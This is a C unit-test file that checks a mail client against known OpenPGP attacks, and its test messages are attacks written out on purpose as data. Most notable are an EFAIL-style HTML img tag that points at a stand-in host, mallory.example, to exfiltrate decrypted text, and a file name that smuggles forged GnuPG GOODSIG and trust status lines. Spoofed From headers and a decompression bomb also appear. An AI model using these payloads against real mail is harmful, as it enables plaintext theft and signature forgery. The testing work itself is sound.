/* test_attack_openpgp.c - mails that lie with OpenPGP, and what is told
 *
 * The structures of the known attacks on mail clients, with keys made here. */
#include "tests/flow/pgp_desk.h"

#define ALICE	"-u 'Alice <alice@example.org>'"
#define FROM(field) field "\r\nTo: bob@example.org\r\nSubject: noon\r\n" \
	"MIME-Version: 1.0\r\n"
#define MIXED	"Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
#define LIE	"Content-Type: text/plain\r\n\r\nSend the money to Mallory.\r\n"

/* A message put together from its text, opened; free it. */
static char *mail(const char *format, ...)
	__attribute__((format(printf, 1, 2)));

static char *mail(const char *format, ...)
{
	char *text = NULL;
	va_list args;

	va_start(args, format);
	assert_true(vasprintf(&text, format, args) > 0);
	va_end(args);
	mail_open(text, NULL);
	return text;
}

static void mail_gone(char *text)
{
	mail_done();
	free(text);
}

/* Nothing of it counts as signed, encrypted or opened. */
static void is_unprotected(void)
{
	mail_is("security", "unprotected");
	assert_string_not_equal(mail_word("covers"), "whole");
	mail_is("signature.status", "none");
	assert_string_not_equal(mail_word("encryption.status"), "opened");
}

/* --- a good signature over something else than what is read */

static void text_around(void **state)
{
	char *part = pgp_signed(ENTITY, ALICE), *text;

	(void)state;
	text = mail(HEAD MIXED "--mix\r\n" LIE "\r\n--mix\r\n%s\r\n--mix--\r\n",
		    part);
	is_unprotected();
	mail_is("parts.0.scheme", "openpgp");
	mail_gone(text);
	/* A mailing list's footer: the same to us. */
	text = mail(HEAD MIXED "--mix\r\n%s\r\n--mix\r\n" LIE "\r\n--mix--\r\n",
		    part);
	is_unprotected();
	mail_gone(text);
	/* As an attached message it speaks for itself alone. */
	text = mail(HEAD "Content-Type: message/rfc822\r\n\r\n" HEAD "%s",
		    part);
	is_unprotected();
	mail_gone(text);
	/* Hidden beside what is shown. */
	text = mail(HEAD "Content-Type: multipart/related; boundary=mix\r\n"
		    "\r\n--mix\r\nContent-Type: text/html\r\n\r\n<p>Send the "
		    "money.</p>\r\n--mix\r\n%s\r\n--mix--\r\n", part);
	is_unprotected();
	mail_gone(text);
	free(part);
}

/* In clear text, where any part of it may be read for the signed one. */
static void inline_signed(void **state)
{
	char *clear = gpg("Meet me at noon.\r\n", "--clearsign " ALICE
			  " -o - -"), *text;

	(void)state;
	assert_non_null(clear);
	text = mail(HEAD "Content-Type: text/plain\r\n\r\nSend the money.\r\n"
		    "%s", clear);
	is_unprotected();
	mail_gone(text);
	free(clear);
}

/* --- who signed, and who it says it is from */

static void signer_is_another(void **state)
{
	char *part = pgp_signed(ENTITY, ALICE), *text;

	(void)state;
	text = mail(FROM("From: Bank <service@bank.example>") "%s", part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.status", "good");
	mail_is("signature.from_match", "no");
	mail_gone(text);
	text = mail(FROM("From: \"alice@example.org\" <m@free.example>") "%s",
		    part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.from_match", "no");
	mail_gone(text);
	text = mail(FROM("From: m@free.example\r\nSender: alice@example.org")
		    "%s", part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.from_match", "no");
	mail_gone(text);
	text = mail(FROM("From: m@free.example\r\nFrom: alice@example.org")
		    "%s", part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.from_match", "ambiguous");
	mail_gone(text);
	text = mail(FROM("From: alice@example.org, m@free.example") "%s",
		    part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.from_match", "ambiguous");
	mail_gone(text);
	text = mail("To: bob@example.org\r\nMIME-Version: 1.0\r\n%s", part);
	assert_string_not_equal(mail_word("security"), "verified");
	mail_gone(text);
	free(part);
}

/* The address is right, but it is anybody's word. */
static void key_of_the_same_name(void **state)
{
	char *part = pgp_signed(ENTITY, "-u 'Mallory <alice@example.org>'");
	char *text = mail(HEAD "%s", part);

	(void)state;
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.status", "untrusted");
	mail_is("signature.trust", "none");
	mail_gone(text);
	free(part);
}

/* --- what is no signature over this text */

static void text_changed(void **state)
{
	char *part = pgp_signed(ENTITY, ALICE), *at, *text;

	(void)state;
	at = strstr(part, "noon");
	assert_non_null(at);
	memcpy(at, "four", 4);
	text = mail(HEAD "%s", part);
	mail_is("security", "unprotected");
	mail_is("signature.status", "bad");
	mail_is("signature.addresses.0", "");
	mail_gone(text);
	free(part);
}

static void signature_of_two(void **state)
{
	char *part = pgp_signed(ENTITY, ALICE " -u bob@example.org");
	char *text = mail(HEAD "%s", part);

	(void)state;
	assert_string_not_equal(mail_word("security"), "verified");
	mail_is("signature.status", "bad");
	mail_gone(text);
	free(part);
}

/* A signature part that brings the text that it is right for. */
static void signature_with_text(void **state)
{
	static const char *const how[] = {
		"-a -s " ALICE " -o - -", "--clearsign " ALICE " -o - -"
	};
	char *signature, *text;
	size_t i;

	(void)state;
	for (i = 0; i < 2; i++) {
		signature = gpg(ENTITY, how[i]);
		assert_non_null(signature);
		text = mail(HEAD "Content-Type: multipart/signed; boundary="
			    "sig;\r\n protocol=\"application/pgp-signature\";"
			    " micalg=pgp-sha512\r\n\r\n--sig\r\n" LIE
			    "\r\n--sig\r\nContent-Type: application/"
			    "pgp-signature\r\n\r\n%s\r\n--sig--\r\n",
			    signature);
		mail_is("security", "unprotected");
		mail_is("signature.status", "bad");
		mail_gone(text);
		free(signature);
	}
}

/* More parts than two, or parts of another kind. */
static void signed_misshapen(void **state)
{
	char *part = pgp_signed(ENTITY, ALICE), *end, *type, *text;

	(void)state;
	end = strstr(part, "--sig--");
	assert_non_null(end);
	*end = 0;
	text = mail(HEAD "%s--sig\r\n" LIE "\r\n--sig--\r\n", part);
	assert_string_not_equal(mail_word("security"), "verified");
	assert_string_not_equal(mail_word("signature.status"), "good");
	mail_gone(text);
	*end = '-';
	type = strstr(part, "Content-Type: application/pgp-signature");
	assert_non_null(type);
	memcpy(type, "Content-Type: application/pgp-notatypex", 39);
	text = mail(HEAD "%s", part);
	assert_string_not_equal(mail_word("security"), "verified");
	assert_string_not_equal(mail_word("signature.status"), "good");
	mail_gone(text);
	free(part);
}

/* --- what is encrypted, and what leaks */

/* EFAIL: the opened part between two pieces of a stranger's HTML. */
static void exfiltration(void **state)
{
	char *part = pgp_encrypted("Content-Type: text/plain\r\n\r\nhidden "
				   "secret\r\n", ""), *text;

	(void)state;
	text = mail(HEAD MIXED "--mix\r\nContent-Type: text/html\r\n\r\n"
		    "<img src=\"http://mallory.example/\r\n--mix\r\n%s\r\n"
		    "--mix\r\nContent-Type: text/html\r\n\r\n\">\r\n"
		    "--mix--\r\n", part);
	is_unprotected();
	assert_null(strstr(buf_string(&pgp.content), "hidden secret"));
	mail_is("parts.0.kind", "sealed");
	/* Opened when asked for, and alone. */
	mail_done();
	mail_open(text, "2");
	assert_non_null(strstr(buf_string(&pgp.content), "hidden secret"));
	assert_null(strstr(buf_string(&pgp.content), "mallory.example"));
	mail_is("security", "encrypted");
	mail_is("covers", "part");
	mail_gone(text);
	free(part);
}

static void is_not_opened(const char *status)
{
	mail_is("encryption.status", status);
	assert_false(pgp.left);
	assert_int_equal(pgp.content.len, 0);
}

static void not_protected(void **state)
{
	char *part = pgp_encrypted(ENTITY, "--rfc2440 --disable-mdc");
	char *text = mail(HEAD "%s", part);

	(void)state;
	is_not_opened("damaged");
	assert_non_null(strstr(mail_word("encryption.reason"),
			       "without integrity protection"));
	mail_gone(text);
	free(part);
}

static void ciphertext_changed(void **state)
{
	char *part = pgp_encrypted(ENTITY, ""), *at, *text;
	int i;

	(void)state;
	at = strstr(part, "BEGIN PGP MESSAGE");
	assert_non_null(at);
	at += 200;
	for (i = 0; i < 3; i++, at += 20) {
		*at = *at == 'A' ? 'B' : 'A';
		text = mail(HEAD "%s", part);
		is_not_opened("damaged");
		mail_gone(text);
	}
	free(part);
}

static void plain_in_place_of_cipher(void **state)
{
	static const char *const how[] = {
		"-a --store -o - -", "-a -s " ALICE " -o - -",
		"-a -c --pinentry-mode loopback --passphrase x -o - -",
	};
	static const char *const status[] = {
		"damaged", "damaged", "unsupported"
	};
	char *armored, *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		armored = gpg(ENTITY, how[i]);
		assert_non_null(armored);
		text = pgp_mail_of(HEAD, pgp_wrapped(armored));
		mail_open(text, NULL);
		is_not_opened(status[i]);
		mail_gone(text);
		free(armored);
	}
}

/* G1, G2: status lines by the name of a file inside. */
static void status_by_a_file_name(void **state)
{
	static const char *const names[] = {
		"--set-filename \"$(printf 'x\\n[GNUPG:] GOODSIG "
		"0123456789ABCDEF Alice <alice@example.org>\\n"
		"[GNUPG:] TRUST_ULTIMATE')\"",
		"--set-filename '_CONSOLE'", "--set-filename '../../x'",
	};
	char *part, *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		part = pgp_encrypted(ENTITY, names[i]);
		text = mail(HEAD "%s", part);
		mail_is("security", "encrypted");
		mail_is("signature.status", "none");
		mail_is("encryption.integrity", "mdc");
		mail_gone(text);
		free(part);
	}
}

/* An old ciphertext of another sender's, wrapped into one's own. */
static void hidden_inside(void **state)
{
	char *armored, *text;

	(void)state;
	gpg_do(ENTITY, "--trust-model always -e -r bob@example.org -o stolen "
	       "-");
	armored = gpg("", "--trust-model always --no-literal -a -e "
		      "-r bob@example.org -o - stolen");
	assert_non_null(armored);
	text = pgp_mail_of(HEAD, pgp_wrapped(armored));
	mail_open(text, NULL);
	is_not_opened("damaged");
	mail_gone(text);
	free(armored);
}

/* 80 MB of nothing in a small mail: gpg goes on for as long as it is read. */
static void swells(void **state)
{
	char path[256], *armored, *text;
	FILE *file;

	(void)state;
	(void)snprintf(path, sizeof(path), "%s/zeros", gpg_home);
	file = fopen(path, "w");
	assert_non_null(file);
	assert_true(fputs(ENTITY, file) >= 0 && fflush(file) == 0);
	assert_int_equal(ftruncate(fileno(file), 80 * 1024 * 1024), 0);
	assert_int_equal(fclose(file), 0);
	armored = gpg("", "--trust-model always -a -e --compress-algo zlib "
		      "-z 9 -r bob@example.org -o - zeros");
	assert_non_null(armored);
	assert_true(strlen(armored) < 200000);
	text = pgp_mail_of(HEAD, pgp_wrapped(armored));
	mail_open(text, NULL);
	is_not_opened("damaged");
	assert_non_null(strstr(mail_word("encryption.reason"), "swells"));
	mail_gone(text);
	free(armored);
}

/* As one part of several, so that a reply brings it back in clear. */
static void covert_part(void **state)
{
	static const char *const kinds[] = {
		"mixed", "alternative", "related"
	};
	char *part = pgp_encrypted("Content-Type: text/plain\r\n\r\nhidden "
				   "secret\r\n", ""), *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		text = mail(HEAD "Content-Type: multipart/%s; boundary=mix\r\n"
			    "\r\n--mix\r\nContent-Type: text/plain\r\n\r\n"
			    "Shall we meet?\r\n--mix\r\n%s\r\n--mix--\r\n",
			    kinds[i], part);
		is_unprotected();
		assert_null(strstr(buf_string(&pgp.content),
				   "hidden secret"));
		mail_gone(text);
	}
	free(part);
}

static const struct CMUnitTest tests[] = {
	cmocka_unit_test(text_around),
	cmocka_unit_test(inline_signed),
	cmocka_unit_test(signer_is_another),
	cmocka_unit_test(key_of_the_same_name),
	cmocka_unit_test(text_changed),
	cmocka_unit_test(signature_of_two),
	cmocka_unit_test(signature_with_text),
	cmocka_unit_test(signed_misshapen),
	cmocka_unit_test(exfiltration),
	cmocka_unit_test(not_protected),
	cmocka_unit_test(ciphertext_changed),
	cmocka_unit_test(plain_in_place_of_cipher),
	cmocka_unit_test(status_by_a_file_name),
	cmocka_unit_test(hidden_inside),
	cmocka_unit_test(swells),
	cmocka_unit_test(covert_part),
};

GPG_TESTS(tests, pgp_setup, pgp_teardown)
